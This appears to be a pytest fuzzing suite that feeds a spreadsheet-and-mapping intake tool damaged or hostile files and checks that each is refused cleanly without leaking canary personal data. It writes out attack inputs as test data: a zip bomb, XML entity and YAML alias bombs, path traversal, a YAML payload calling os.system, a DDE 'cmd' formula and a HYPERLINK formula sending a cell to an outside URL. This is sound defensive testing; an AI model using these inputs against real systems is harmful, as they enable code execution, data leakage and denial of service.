"""Files that are damaged, or made to do harm: `draft` and `check` answer each with a result or one sentence.

Some fifty kinds by hand, and seeded mutations of a list, its workbook and its mapping. Each is read in a process of
its own: no error but those with a code, nothing slow, little memory, nothing written, and no value of a cell in words.
"""

from __future__ import annotations

import datetime
import io
import multiprocessing
import random
import zipfile
from collections.abc import Callable
from pathlib import Path

import pytest
import xlsxwriter
from fuzzing import SOAK
from hostile_reading import read

from analysis.cases.mapping import beside
from analysis.cases.mapping_draft import draft
from analysis.checking import check
from analysis.intake import source
from bounded.refusal import Coded

# Copies of a process that has linked no list: it loads what reading needs once.
PROCESSES = multiprocessing.get_context("forkserver")
PROCESSES.set_forkserver_preload(["hostile_reading"])
# Texts of cells that name a person; parts of them stand in no message and no report.
CANARY = ("Kanarya", "Gizlioğlu", "05551234567")
HEADER = ["No", "Adı", "Soyadı", "Telefon", "Cinsiyet", "Yaş", "Tespit Tarihi", "İl"]
PERSON = ["1", *CANARY, "K", "14", "13.02.2021", "Kilis"]
ROWS = [HEADER, *([str(number), *PERSON[1:]] for number in range(1, 21))]
MAPPING = """\
list: police
title: Police
study: turkiye
kind: confidential
publisher: P
source: S
date: 2024-01-31
columns:
  record: No
  given_name: Adı
  family_name: Soyadı
  phone: Telefon
  sex: {column: Cinsiyet, codes: {K: female, E: male}}
  age: Yaş
  detected: {column: Tespit Tarihi, format: dd.mm.yyyy}
  area: {column: İl, places: {kls: Kilis}}
"""
# A process with the libraries alone takes a quarter of one GiB; the rest of it is for the file.
SECONDS, BYTES = 10, 768 * 1024**2


def csv_of(rows: list[list[str]] = ROWS, encoding: str = "utf-8", delimiter: str = ",") -> bytes:
    return "".join(delimiter.join(row) + "\n" for row in rows).encode(encoding)


def xlsx_of(rows: list[list[str]] = ROWS, name: str = "Liste", fill: Callable | None = None) -> bytes:
    found = io.BytesIO()
    with xlsxwriter.Workbook(found, {"in_memory": True}) as book:
        book.set_properties({"created": datetime.datetime(2024, 1, 31)})  # the same bytes each day
        sheet = book.add_worksheet(name)
        for number, row in enumerate(rows):
            sheet.write_row(number, 0, row)
        if fill:
            fill(sheet)
    return found.getvalue()


def altered(content: bytes, member: str, change: Callable[[bytes], bytes]) -> bytes:
    """A workbook with one part of its archive changed."""
    found = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(content)) as old, zipfile.ZipFile(found, "w", zipfile.ZIP_DEFLATED) as new:
        for name in old.namelist():
            new.writestr(name, change(old.read(name)) if name == member else old.read(name))
    return found.getvalue()


SHEET, BOOK = "xl/worksheets/sheet1.xml", "xl/workbook.xml"
DTD = b'<!DOCTYPE a [<!ENTITY b "1"><!ENTITY c "&b;&b;">]>'


def _bomb() -> bytes:
    found = io.BytesIO()
    with zipfile.ZipFile(found, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as archive:
        archive.writestr(SHEET, b"0" * 60 * 1024**2)
    return found.getvalue()


def _misplaced() -> bytes:
    """A workbook that lacks nine bytes of its first part, so that its archive begins before the file does."""
    content = xlsx_of()
    return content[:60] + content[69:]


def _declared(content: bytes) -> bytes:
    head, _, body = content.partition(b"?>")
    return head + b"?>" + DTD + body


def _far(content: bytes) -> bytes:
    return content.replace(b"</sheetData>", b'<row r="1048576"><c r="XA1048576"><v>1</v></c></row></sheetData>')


def _overlapping(content: bytes) -> bytes:
    ranges = b"".join(b'<mergeCell ref="A1:H1048576"/>' for _ in range(5000))
    return content.replace(b"</sheetData>", b"</sheetData><mergeCells>" + ranges + b"</mergeCells>")


def _formulas(sheet: xlsxwriter.worksheet.Worksheet) -> None:
    for row in range(1, 10):
        sheet.write_formula(row, 5, '=HYPERLINK("http://example.org/"&B2)', None, CANARY[0])


WIDE = [f"c{number}" for number in range(100_000)]
# Name of the file, what it holds, and its mapping; where there is none, the draft's is tried.
KINDS: dict[str, tuple[str, Callable[[], bytes], str]] = {
    "empty": ("a.csv", lambda: b"", MAPPING),
    "empty workbook": ("a.xlsx", lambda: b"", MAPPING),
    "header alone": ("a.csv", lambda: csv_of([HEADER]), MAPPING),
    "blank lines": ("a.csv", lambda: b"\n" * 5000, ""),
    "truncated csv": ("a.csv", lambda: csv_of()[:-9], MAPPING),
    "truncated workbook": ("a.xlsx", lambda: xlsx_of()[:3000], MAPPING),
    "junk": ("a.csv", lambda: random.Random(1).randbytes(50_000), ""),
    "junk workbook": ("a.xlsx", lambda: random.Random(2).randbytes(50_000), ""),
    "nul": ("a.csv", lambda: csv_of().replace(b"Kilis", b"Ki\0lis"), MAPPING),
    "late nul": ("a.csv", lambda: csv_of(ROWS * 60).replace(b"20,", b"2\0,"), MAPPING),
    "huge cell": ("a.csv", lambda: csv_of([*ROWS, ["x" * 20_000_000, *PERSON[1:]]]), MAPPING),
    "utf-16 as utf-8": ("a.csv", lambda: csv_of(encoding="utf-16"), MAPPING),
    "utf-16": ("a.csv", lambda: csv_of(encoding="utf-16"), ""),
    "zip bomb": ("a.xlsx", _bomb, MAPPING),
    "archive that begins too early": ("a.xlsx", _misplaced, MAPPING),
    "unclosed quote": ("a.csv", lambda: csv_of() + b'"x,' + csv_of() * 50, MAPPING),
    "doubled column": ("a.csv", lambda: csv_of([[*row, row[1]] for row in ROWS]), MAPPING),
    "old excel": ("a.xlsx", lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(9000), MAPPING),
    "xls": ("a.xls", lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(9000), MAPPING),
    "pdf as workbook": ("a.xlsx", lambda: b"%PDF-1.7\n" + bytes(9000), MAPPING),
    "list traversal": ("a.csv", csv_of, MAPPING.replace("list: police", "list: ../../evil")),
    "study traversal": ("a.csv", csv_of, MAPPING.replace("study: turkiye", "study: ../../../etc")),
    "python object": (
        "a.csv",
        csv_of,
        MAPPING.replace("title: Police", "title: !!python/object/apply:os.system ['touch evil']"),
    ),
    "yaml list": ("a.csv", csv_of, "- list\n- title\n"),
    "yaml bomb": (
        "a.csv",
        csv_of,
        "a0: &a0 [x, x]\n"
        + "".join(f"a{n}: &a{n} [{', '.join([f'*a{n - 1}'] * 9)}]\n" for n in range(1, 12))
        + MAPPING,
    ),
    "yaml bomb of texts": (
        "a.csv",
        csv_of,
        MAPPING
        + "drop: [&a0 [x, x], "
        + ", ".join(f"&a{n} [{', '.join([f'*a{n - 1}'] * 9)}]" for n in range(1, 12))
        + "]\n",
    ),
    "nested yaml": ("a.csv", csv_of, "columns: " + "[" * 20_000),
    "long mapping": ("a.csv", csv_of, "# x\n" * 1_000_000 + MAPPING),
    "formulas": ("a.xlsx", lambda: xlsx_of(fill=_formulas), MAPPING),
    "formula as header": ("a.csv", lambda: csv_of([["=cmd|' /C calc'!A0", *HEADER[1:]], *ROWS[1:]]), ""),
    "html": ("a.csv", lambda: csv_of([["<script>alert(1)</script>", *HEADER[1:]], *ROWS[1:]]), ""),
    "page as workbook": ("a.xlsx", lambda: b"<html><table><tr><td>1</td></tr></table></html>", MAPPING),
    "sheet traversal": (
        "a.xlsx",
        lambda: altered(xlsx_of(), BOOK, lambda book: book.replace(b'"Liste"', b'"../../../evil"')),
        "",
    ),
    "100,000 columns": ("a.csv", lambda: csv_of([WIDE, WIDE, WIDE]), ""),
    "100,000 columns, mapped": ("a.csv", lambda: csv_of([HEADER + WIDE, PERSON + WIDE]), MAPPING),
    "100,000 empty columns": ("a.csv", lambda: csv_of([row + [""] * 100_000 for row in ROWS]), MAPPING),
    "wide workbook": ("a.xlsx", lambda: xlsx_of([WIDE[:16_384], WIDE[:16_384]]), ""),
    "wide workbook, mapped": ("a.xlsx", lambda: xlsx_of([HEADER + WIDE[:3000], PERSON + WIDE[:3000]]), MAPPING),
    "entities": ("a.xlsx", lambda: altered(xlsx_of(), SHEET, _declared), MAPPING),
    "entities in the book": ("a.xlsx", lambda: altered(xlsx_of(), BOOK, _declared), ""),
    "cell far away": ("a.xlsx", lambda: altered(xlsx_of(), SHEET, _far), MAPPING),
    "overlapping ranges": ("a.xlsx", lambda: altered(xlsx_of(), SHEET, _overlapping), MAPPING),
    "rows out of order": (
        "a.xlsx",
        lambda: altered(xlsx_of(), SHEET, lambda sheet: sheet.replace(b'r="3"', b'r="99999999999999999999"')),
        MAPPING,
    ),
    "wrong sheet": ("a.xlsx", lambda: xlsx_of(name="Başka"), MAPPING.replace("columns:", "file: {sheet: X}\ncolumns:")),
    "no such header": ("a.csv", csv_of, MAPPING.replace("columns:", "file: {header: 900000}\ncolumns:")),
    "places exchanged": ("a.csv", csv_of, MAPPING.replace("{kls: Kilis}", f"{{TR-79: {CANARY[1]}}}")),
}


def mutated(content: bytes, seed: int) -> bytes:
    """The content with a few bytes changed, cut out, doubled or put in."""
    draw, found = random.Random(seed), bytearray(content)
    for _ in range(draw.randint(1, 6)):
        at, length = draw.randrange(len(found) or 1), draw.choice((1, 2, 9, 200))
        what = draw.randrange(6)
        if what == 0:
            found[at : at + length] = draw.randbytes(min(length, 9))
        elif what == 1:
            del found[at : at + length]
        elif what == 2:
            found[at:at] = found[at : at + length] * draw.choice((1, 1, 300))
        elif what == 3:
            found[at:at] = draw.choice((b"\0", b'"', b"\n", b";", b"\xff\xfe", b"{", b"&a *a", b"<!D", b"\xe2\x80\x8b"))
        elif what == 4 and draw.random() < 0.3:
            del found[at:]
    return bytes(found)


def mutation(seed: int) -> tuple[str, bytes, str]:
    """A list of which the file, a part of its workbook, or the mapping is changed."""
    what = ("csv", "archive", "part", "mapping")[seed % 4]
    if what == "csv":
        return "a.csv", mutated(csv_of(), seed), MAPPING if seed % 8 else ""
    if what == "archive":
        return "a.xlsx", mutated(xlsx_of(), seed), MAPPING
    if what == "part":
        member = (SHEET, BOOK, "xl/sharedStrings.xml", "xl/_rels/workbook.xml.rels")[seed // 4 % 4]
        return "a.xlsx", altered(xlsx_of(), member, lambda content: mutated(content, seed)), MAPPING
    return "a.csv", csv_of(), mutated(MAPPING.encode(), seed).decode("utf-8", "surrogateescape")


# --- The reading, in a process of its own ----------------------------------------------------------------------------


def judged(folder: Path, name: str, content: bytes, mapping: str) -> tuple[float, int]:
    """Read a file as a user would; returns the seconds and the bytes of memory that it took beyond the start."""
    path = folder / "turkiye" / name
    path.parent.mkdir()
    path.write_bytes(content)
    if mapping:
        beside(path).write_bytes(mapping.encode("utf-8", "surrogateescape"))
    before = {file: file.read_bytes() for file in folder.rglob("*") if file.is_file()}
    ours, theirs = multiprocessing.Pipe(duplex=False)
    printed = folder / "printed"
    child = PROCESSES.Process(target=read, args=(path, theirs, printed))
    child.start()
    theirs.close()
    try:
        assert ours.poll(2 * SECONDS), "it was not read in time"
        said, wrong, seconds, used = ours.recv()
    except EOFError:
        child.join()
        raise AssertionError(f"the process ended with {child.exitcode}: {printed.read_text()[-3000:]}") from None
    finally:
        child.kill()
        child.join()
    assert not wrong
    assert printed.read_bytes() == b""
    assert not [text[:300] for text in said if any(word in text for word in CANARY)]
    assert all(len(text) < 2_000_000 and max(map(len, text.splitlines()), default=0) < 20_000 for text in said)
    printed.unlink()
    assert {file: file.read_bytes() for file in folder.rglob("*") if file.is_file()} == before
    assert seconds < SECONDS and used < BYTES
    return seconds, used


@pytest.fixture(autouse=True)
def key(tmp_path_factory: pytest.TempPathFactory, monkeypatch: pytest.MonkeyPatch) -> None:
    path = tmp_path_factory.mktemp("key") / "key"
    path.write_text("0123456789abcdef")
    path.chmod(0o600)
    monkeypatch.setenv("ANALYSIS_KEY", str(path))


@pytest.mark.slow
@pytest.mark.parametrize("kind", KINDS)
def test_a_hostile_file_is_read_or_refused_in_one_sentence(tmp_path: Path, kind: str) -> None:
    name, content, mapping = KINDS[kind]
    judged(tmp_path, name, content(), mapping)


# A dozen are tried each time; the rest takes half a minute.
@pytest.mark.parametrize(
    "seeds", [range(0, 12), pytest.param(range(12, 160 if not SOAK else 2000), marks=pytest.mark.soak)], ids=str
)
def test_a_mutated_file_is_read_or_refused_in_one_sentence(tmp_path: Path, seeds: range) -> None:
    for seed in seeds:
        (tmp_path / str(seed)).mkdir()
        judged(tmp_path / str(seed), *mutation(seed))


def test_the_untouched_list_is_read_whole(tmp_path: Path) -> None:
    """Without this, a mapping that is refused for another reason would let every kind pass."""
    for name, content in (("a.csv", csv_of()), ("a.xlsx", xlsx_of())):
        path = tmp_path / name
        path.write_bytes(content)
        beside(path).write_text(MAPPING, encoding="utf-8")
        assert "20 rows" in check(path).text and "0 in quarantine" in check(path).text


def test_a_link_out_of_the_data_is_not_followed(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    raw = tmp_path / "data" / "raw"
    monkeypatch.setattr(source, "RAW", raw)
    elsewhere = tmp_path / "elsewhere.csv"
    elsewhere.write_bytes(csv_of())
    elsewhere.with_name("l.yml").write_text(MAPPING, encoding="utf-8")
    (raw / "turkiye").mkdir(parents=True)
    path = raw / "turkiye" / "a.csv"
    path.symlink_to(elsewhere)
    beside(path).write_text(MAPPING, encoding="utf-8")
    for step in (draft, check):
        with pytest.raises(Coded) as error:
            step(path)
        assert error.value.code == "link_outside"
    # A mapping can be such a link too; a link to another file of the data, or a study on another disk, is followed.
    path.unlink()
    path.write_bytes(csv_of())
    beside(path).unlink()
    beside(path).symlink_to(elsewhere.with_name("l.yml"))
    with pytest.raises(Coded) as error:
        check(path)
    assert error.value.code == "link_outside"
    (tmp_path / "disk").mkdir()
    (tmp_path / "disk" / "a.csv").write_bytes(csv_of())
    (raw / "ghana").symlink_to(tmp_path / "disk")
    (raw / "turkiye" / "b.csv").symlink_to(path)
    assert draft(raw / "ghana" / "a.csv") and draft(raw / "turkiye" / "b.csv")
